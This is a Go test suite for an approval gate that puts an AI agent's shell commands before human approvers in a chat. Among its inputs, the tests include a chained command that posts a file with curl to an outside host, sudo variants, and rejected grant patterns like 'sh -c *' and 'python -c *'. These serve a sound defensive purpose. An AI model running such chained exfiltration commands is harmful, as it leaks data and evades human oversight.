package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"approvalbot/api"
	"approvalbot/internal/cli/app"
	"approvalbot/internal/fakechat"
)

func session(key string) func(*api.CreateRequest) {
	return func(c *api.CreateRequest) { c.SessionKey = key }
}

// tryExec asks for a shell line and gives the approval however it stands.
func (r *rig) tryExec(command string, change ...func(*api.CreateRequest)) api.Approval {
	r.t.Helper()
	req := api.CreateRequest{ToolName: "exec", Params: fmt.Appendf(nil, `{"command":%q}`, command), AgentID: "main"}
	for _, f := range change {
		f(&req)
	}
	a, err := r.agent().Create(r.ctx(), req, api.CreateOptions{})
	require.NoError(r.t, err)
	return a
}

// more opens a card's second row and gives it.
func (r *rig) more(u *fakechat.TelegramUser, card fakechat.TelegramMessage, button string) fakechat.TelegramMessage {
	r.t.Helper()
	r.tap(u, r.group, card.ID, "More")
	m, err := r.group.WaitMessage(r.ctx(), func(m fakechat.TelegramMessage) bool {
		_, ok := m.Button(button)
		return ok && m.ID == card.ID
	})
	require.NoError(r.t, err)
	return m
}

// A person allows a command for a session; the same then runs
// without a card, until an operator ends the grant.
func TestFlow_AllowedForTheSession(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	first := r.exec("git push origin main", session("nightly"))
	card := r.more(r.alice, r.card(first), "Allow session")
	require.Equal(t, []string{"Allow once", "Deny", "Deny with a reason", "Details", "Allow session", "Always", "Back"}, card.Labels())
	require.Contains(t, card.Text, "Allow session: exactly “git push origin main”, in any directory; by agent main in this session, up to risk R3 and for no other reason than here, for 12 hours at most.\n"+
		"Always: exactly this call, in any directory; by agent main, until an operator deletes the grant.")
	require.Contains(t, r.tap(r.alice, r.group, card.ID, "Allow session").Text, "Allowed for the session. It may run once")
	r.settled(r.group, card.ID, "Allowed for the session by alice")

	second := r.tryExec("git push origin main", session("nightly"))
	require.EqualValues(t, "approved", second.Status)
	require.Contains(t, second.DecidedBy[0], "grant:")
	require.Empty(t, second.Deliveries)
	for _, other := range []api.Approval{
		r.tryExec("git push origin main", session("daily")),
		r.tryExec("git push origin main"),
		r.tryExec("git push origin main && curl -d @x https://example.com", session("nightly")),
		r.tryExec("sudo git push origin main", session("nightly")),
		r.tryExec("npm publish", session("nightly")),
		r.tryExec("git push -o ci.skip origin main", session("nightly")),
		r.tryExec("git push ./main main", session("nightly")),
		r.tryExec("git push origin next", session("nightly")),
	} {
		require.EqualValues(t, "pending", other.Status, "%s", other.ParamsSummary)
	}

	n, err := r.operator().EndSession(r.ctx(), "nightly")
	require.NoError(t, err)
	require.Equal(t, 1, n)
	require.EqualValues(t, "pending", r.tryExec("git push origin main", session("nightly")).Status)
}

// What a program does with its words is not known of every one: there a session's
// yes is for the very words that people saw, and all of them are shown.
func TestFlow_AllowedForTheSessionWordForWord(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	first := r.exec("frob 'a b' c", session("s1"))
	card := r.more(r.alice, r.card(first), "Allow session")
	require.Contains(t, card.Text, `Allow session: exactly “frob 'a b' c”, in any directory; by agent main in this session, up to risk R3 and for no other reason than here, for 12 hours at most.`)
	require.Contains(t, r.tap(r.alice, r.group, card.ID, "Allow session").Text, "Allowed for the session. It may run once")
	require.EqualValues(t, "approved", r.tryExec("frob 'a b' c", session("s1")).Status)
	require.EqualValues(t, "pending", r.tryExec("frob a b c", session("s1")).Status)

	for _, line := range []string{"frob --password=hunter2hunter2 x", "frob " + strings.Repeat("x", 200), "frob 'a\u200bb'"} {
		hidden := r.tryExec(line, session("s1"))
		require.Equal(t, []api.Decision{api.AllowOnce, api.AllowAlways, api.Deny}, hidden.Offers, line)
		_, err := r.operator().Resolve(r.ctx(), hidden.ID, api.ResolveRequest{Decision: api.AllowSession})
		requireProblem(t, err, "decision_not_offered")
		params, err := json.Marshal(map[string]string{"command": line})
		require.NoError(t, err)
		e, err := r.operator().Evaluate(r.ctx(), api.CreateRequest{ToolName: "exec", Params: params, SessionKey: "s1", AgentID: "main"})
		require.NoError(t, err)
		require.Equal(t, hidden.Offers, e.Offers, line)
	}
}

func TestFlow_AlwaysAndTheOperatorsPattern(t *testing.T) {
	t.Parallel()
	r, ctx := newRig(t), t.Context()
	first := r.exec("git push origin main")
	card := r.more(r.bob, r.card(first), "Always")
	require.Contains(t, r.tap(r.bob, r.group, card.ID, "Always").Text, "Allowed always. It may run once")
	require.EqualValues(t, "approved", r.tryExec("git push origin main").Status)
	require.EqualValues(t, "pending", r.tryExec("git push origin other").Status)

	pattern := api.GrantRequest{Owner: "agent", AgentID: "main", ToolName: "exec", Pattern: []string{"git", "push", "origin", "*"}, MaxRiskClass: "R3", Preview: true}
	preview, err := r.operator().AddGrant(ctx, pattern)
	require.NoError(t, err)
	require.Nil(t, preview.Grant)
	require.NotEmpty(t, preview.Covers)
	require.EqualValues(t, "pending", r.tryExec("git push origin other2").Status, "a preview grants nothing")
	pattern.Preview = false
	stored, err := r.operator().AddGrant(ctx, pattern)
	require.NoError(t, err)
	require.EqualValues(t, "approved", r.tryExec("git push origin other3").Status)
	require.EqualValues(t, "pending", r.tryExec("git push --force origin other3").Status)
	require.EqualValues(t, "pending", r.tryExec("git push upstream other3").Status)
	require.EqualValues(t, "pending", r.tryExec("git push origin --no-verify").Status, "a star is no option")
	require.NoError(t, r.operator().EndGrant(ctx, stored.Grant.ID))
	require.EqualValues(t, "pending", r.tryExec("git push origin other4").Status)

	stored, err = r.operator().AddGrant(ctx, api.GrantRequest{Owner: "agent", AgentID: "main", ToolName: "exec", Pattern: []string{"frob", "--fast", "**"}, MaxRiskClass: "R3"})
	require.NoError(t, err)
	require.EqualValues(t, "approved", r.tryExec("frob --fast").Status)
	require.EqualValues(t, "approved", r.tryExec("frob --fast a b").Status, "a pattern may reach further than a session's yes")
	require.EqualValues(t, "pending", r.tryExec("frob --fast a --run=x").Status)
	pattern.Preview, pattern.Pattern = true, []string{"frob", "**"}
	preview, err = r.operator().AddGrant(ctx, pattern)
	require.NoError(t, err)
	require.Empty(t, preview.Covers, "each that ran had an option")
	pattern.Pattern = []string{"frob", "--fast", "**"}
	preview, err = r.operator().AddGrant(ctx, pattern)
	require.NoError(t, err)
	require.Len(t, preview.Covers, 2)

	for _, bad := range [][]string{{"sh", "-c", "*"}, {"sudo", "git", "push"}, {"python", "-c", "*"}, {"*"}, {"git", "pu*"}, {"env", "git", "**"}} {
		_, err := r.operator().AddGrant(ctx, api.GrantRequest{Owner: "agent", ToolName: "exec", Pattern: bad, MaxRiskClass: "R3"})
		requireProblem(t, err, "invalid_request")
	}
	for _, bad := range []string{"**", "-C"} {
		_, err := r.operator().AddGrant(ctx, api.GrantRequest{Owner: "agent", ToolName: "exec", Pattern: []string{"git", bad}, MaxRiskClass: "R3"})
		require.ErrorContains(t, err, "pattern cannot be granted: begin with the program's name and its subcommand, as plain words before any * or option")
	}

	// Whose grant it is has to be somebody's, and is shown.
	for _, yes := range []string{"--yes=false", "--yes"} {
		words := r.bad("allowlist", "add", "--owner", "nobody", yes, "--", "git", "status")
		require.Contains(t, words, "approvalbot: owner is not the name of a token of this desk: give one of server.tokens (invalid_request)\n")
	}
	require.Contains(t, r.good("allowlist", "add", "--owner", "agent", "--agent", "main", "--yes", "--", "git", "status"), "granted: ")
	require.Regexp(t, `ID\tKind\tOwner\tAgent\tRisk\tUntil\tCovers\n\w+\tpattern\tagent\tmain\tR3\t`, r.good("allowlist", "list"))
}

// After a person's deny the same call is refused without a card.
func TestAdversary_W10_InTheChat(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	a := r.exec("git push origin main", session("s1"))
	card := r.card(a)
	r.tap(r.alice, r.group, card.ID, "Deny")
	before := len(r.group.FromBot())
	for _, key := range []string{"s1", "s2", "s3"} {
		again := r.tryExec("git push origin main", session(key))
		require.EqualValues(t, "denied", again.Status)
		require.Contains(t, again.ReasonCodes, "recently-denied")
		require.Contains(t, again.Reason, "alice")
	}
	require.Len(t, r.group.FromBot(), before)

	refused := r.tryExec("git push origin main", session("s1"))
	require.NotContains(t, refused.Reason, "approvalbot", "a model would try it")
	id, _, _ := strings.Cut(strings.SplitN(r.good("allowlist", "list"), "\n", 3)[1], "\t")
	require.Contains(t, r.good("allowlist", "remove", id), "removed: cooldown")
	require.EqualValues(t, "pending", r.tryExec("git push origin main", session("s1")).Status)
}

// An operator is told what would let a call run, writes it, and it runs; the agent is not told.
func TestFlow_HowToStopItAsking(t *testing.T) {
	t.Parallel()
	r, ctx := newRig(t, func(r *rig) { r.top = "agents: {list: [{id: main, workspace: /srv/app}]}\n" }), t.Context()
	const line = "git fetch origin && git push origin main"
	in := func(c *api.CreateRequest) { c.Bind = &api.Bind{Workdir: new("/srv/app")} }
	require.EqualValues(t, "pending", r.tryExec(line, in).Status)
	call := api.CreateRequest{ToolName: "exec", Params: fmt.Appendf(nil, `{"command":%q}`, line), AgentID: "main"}
	in(&call)
	e, err := r.agent().Evaluate(ctx, call)
	require.NoError(t, err)
	require.Empty(t, e.Trace)
	got := r.cli(operatorSecret, strings.NewReader(""), "policy", "explain", "--agent", "main", "--bind-workdir", "/srv/app", line)
	require.Equal(t, app.ExitPending, got.code, got.errors)
	said := strings.Join(strings.Fields(got.out), " ")
	_, rule, ok := strings.Cut(said, "add to approvals.tools.rules: ")
	require.True(t, ok, said)
	rule, also, ok := strings.Cut(rule, " What else that lets run: ")
	require.True(t, ok, said)
	require.Contains(t, also, "the same words again, by this agent in any session")
	records := r.good("audit", "list", "--json")
	require.Contains(t, records, "a rule in approvals.tools.rules for exactly these words of git, git would let it run")
	require.NotContains(t, records, "origin main")

	r.tools = "    rules: [" + strings.TrimSuffix(rule, ".") + "]\n"
	require.NoError(t, os.WriteFile(filepath.Join(r.dir, "approvalbot.yaml"), []byte(r.yaml()), 0o600))
	_, err = r.operator().Reload(ctx)
	require.NoError(t, err, r.yaml())
	require.EqualValues(t, "approved", r.tryExec(line, in, session("s2")).Status)
	require.EqualValues(t, "pending", r.tryExec(line+" --tags", in).Status)
}

func TestFlow_ReloadIsAllOrNothing(t *testing.T) {
	t.Parallel()
	r, ctx := newRig(t), t.Context()
	write := func(text string) {
		require.NoError(t, os.WriteFile(filepath.Join(r.dir, "approvalbot.yaml"), []byte(text), 0o600))
	}
	waiting := r.exec("git push origin main")
	card := r.card(waiting)
	old, err := r.operator().Policy(ctx)
	require.NoError(t, err)

	write(r.yaml() + "    nonsense: true\n")
	_, err = r.operator().Reload(ctx)
	requireProblem(t, err, "invalid_request")
	var broken *api.Problem
	require.ErrorAs(t, err, &broken)
	require.Equal(t, 422, broken.Status)
	require.Equal(t, "The configuration has 1 mistake and the old policy stays.", broken.Detail)
	require.Len(t, broken.Fields, 1)
	require.Contains(t, broken.Fields[0].Field, "nonsense")
	require.Regexp(t, `^line [0-9]+: unknown key`, broken.Fields[0].Problem)
	got := r.cli(operatorSecret, strings.NewReader(""), "policy", "reload")
	require.Contains(t, got.errors, "nonsense")
	same, err := r.operator().Policy(ctx)
	require.NoError(t, err)
	require.Equal(t, old, same)
	require.EqualValues(t, "pending", r.get(waiting).Status)

	r.tools = "    rules:\n      - {name: no-push, match: {tool: exec, command: git push *}, outcome: deny}\n"
	write(r.yaml())
	stricter, err := r.operator().Reload(ctx)
	require.NoError(t, err)
	require.True(t, stricter.Changed)
	require.Empty(t, stricter.Looser)
	require.Equal(t, []string{"the operator's rules ask or deny more"}, stricter.Tighter)
	require.EqualValues(t, "denied", r.final(waiting).Status, "a stricter policy denies what is pending at once")
	r.settled(r.group, card.ID, "Denied by policy")

	// What a rule that set a class did to a call is not in its form.
	deny := r.tools
	r.tools += "      - {name: fine, match: {command: git tag *}, risk: R1}\n"
	write(r.yaml())
	_, err = r.operator().Reload(ctx)
	require.NoError(t, err)
	require.EqualValues(t, "approved", r.tryExec("git tag -d v1").Status)
	r.tools = deny
	write(r.yaml())
	require.Regexp(t, `changed: the operator's rules changed, and their form does not prove that they allow no more
  \d+ of \d+ calls that were asked for lately and of \d+ examples .*would be judged otherwise
  git tag -d v1, asked by agent: asked \(a person\), and was allowed
`, r.good("policy", "reload"))
	_, err = r.group.WaitMessage(r.ctx(), func(m fakechat.TelegramMessage) bool {
		return strings.Contains(m.Text, "The approval policy changed (loaded by olga): the operator's rules changed") &&
			strings.HasSuffix(m.Text, "would be judged otherwise.")
	})
	require.NoError(t, err)

	r.tools = "    policy: {requireApprovalAtOrAbove: R4}\n"
	write(strings.Replace(r.yaml(), "    policy: {minApprovalsByRisk: {}}\n", "", 1))
	waiting = r.exec("terraform destroy")
	looser, err := r.operator().Reload(ctx)
	require.NoError(t, err)
	require.Contains(t, strings.Join(looser.Looser, "; "), "R3: allow instead of ask")
	_, err = r.group.WaitMessage(r.ctx(), func(m fakechat.TelegramMessage) bool {
		return strings.Contains(m.Text, "became looser (loaded by olga):")
	})
	require.NoError(t, err)
	require.EqualValues(t, "pending", r.get(waiting).Status, "a looser one never allows by itself")

	_, err = r.agent().Reload(ctx)
	requireProblem(t, err, "forbidden")

	// What only a restart changes is told to whoever reloads.
	r.tools = ""
	text := strings.Replace(r.yaml(), "server:\n", "server:\n  tls: {certFile: a, keyFile: b}\n", 1)
	require.NotEqual(t, r.yaml(), text)
	write(text)
	again, err := r.operator().Reload(ctx)
	require.NoError(t, err)
	require.Equal(t, []string{"server.tls"}, again.Restart)
	require.Contains(t, r.good("policy", "reload"), " is unchanged\nchanged: server.tls; takes effect only after a restart\n")
}

// outsider is a verifier or a model on the wire.
type outsider struct {
	*httptest.Server
	mu     sync.Mutex
	answer string
	bodies []map[string]any
}

func newOutsider(t *testing.T, answer string) *outsider {
	o := &outsider{answer: answer}
	o.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		b, _ := io.ReadAll(req.Body)
		var body map[string]any
		_ = json.Unmarshal(b, &body)
		o.mu.Lock()
		defer o.mu.Unlock()
		o.bodies = append(o.bodies, body)
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, o.answer)
	}))
	t.Cleanup(o.Close)
	return o
}

func (o *outsider) say(answer string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.answer = answer
}

func (o *outsider) asked() int {
	o.mu.Lock()
	defer o.mu.Unlock()
	return len(o.bodies)
}

func TestFlow_TheVerifierHasTheLastWord(t *testing.T) {
	t.Parallel()
	hook := newOutsider(t, `{"decision":"deny","reason":"not from here"}`)
	r := newRig(t, func(r *rig) {
		r.top = fmt.Sprintf("tools:\n  verifier: {enabled: true, scope: {include: [exec]}, webhook: {url: %q, secret: hush-hush-hush}}\n", hook.URL)
	})
	denied := r.tryExec("ls")
	require.EqualValues(t, "denied", denied.Status, "also what policy allows")
	require.Equal(t, "not from here", denied.Reason)
	require.Contains(t, denied.ReasonCodes, "verifier-denied")

	hook.say(`{"decision":"allow"}`)
	require.EqualValues(t, "approved", r.tryExec("ls").Status)
	require.EqualValues(t, "pending", r.tryExec("git push origin main").Status, "its yes replaces nobody's")
	hook.say(`maybe`)
	require.EqualValues(t, "denied", r.tryExec("ls -l").Status, "garbage is no yes")

	before := hook.asked()
	e, err := r.operator().Evaluate(r.ctx(), api.CreateRequest{ToolName: "exec", Params: []byte(`{"command":"ls"}`)})
	require.NoError(t, err)
	require.Equal(t, "allow", e.Outcome)
	require.Equal(t, before, hook.asked(), "evaluate asks nobody outside")
	require.Equal(t, "verifier", e.Trace[len(e.Trace)-1].Stage)
}

func TestFlow_TheVerifiersOwnPeople(t *testing.T) {
	t.Parallel()
	r := newRig(t, func(r *rig) {
		r.people = "  - {name: bob, telegram: 999999}\n"
	})
	vera := r.tg.AddUser(fakechat.TelegramProfile{FirstName: "Vera"})
	room := r.tg.AddSupergroup("verifiers", vera, r.mallory)
	r.stop()
	r.top = fmt.Sprintf("tools:\n  verifier: {enabled: true, telegram: {enabled: true, chatId: %d, allowedUserIds: [%d]}}\n", room.ID, vera.ID)
	r.start()

	a := r.tryExec("ls")
	require.EqualValues(t, "pending", a.Status, "what policy allows still needs the verifier's people")
	card := r.cardIn(room, a)
	require.Equal(t, "You are not authorized to approve/deny this request.", r.tap(r.mallory, room, card.ID, "Allow once").Text)
	r.tap(vera, room, card.ID, "Allow once")
	require.EqualValues(t, "approved", r.final(a).Status)

	b := r.tryExec("git push origin main")
	card = r.card(b)
	r.tap(r.alice, r.group, card.ID, "Allow once")
	require.EqualValues(t, "pending", r.get(b).Status, "an approver alone is not enough")
	r.tap(vera, room, r.cardIn(room, b).ID, "Allow once")
	require.EqualValues(t, "approved", r.final(b).Status)

	c := r.tryExec("git push origin next")
	card = r.cardIn(room, c)
	elsewhere := r.tg.AddSupergroup("elsewhere", vera)
	const stranger = "You are not authorized to approve/deny this request."
	require.Contains(t, r.reply(elsewhere, vera.Say(elsewhere, "/deny@approval_test_bot "+c.Code)).Text, stranger, "no place for commands")
	require.Contains(t, r.reply(room, r.mallory.Say(room, "/deny "+c.Code)).Text, stranger)
	require.Contains(t, r.reply(room, vera.Say(room, "/pending")).Text, stranger, "she is asked about single requests")
	require.Contains(t, r.reply(room, vera.Say(room, "/deny "+c.Code+" not today")).Text, "Denied", "what she may tap she may type")
	require.EqualValues(t, "denied", r.final(c).Status)
}
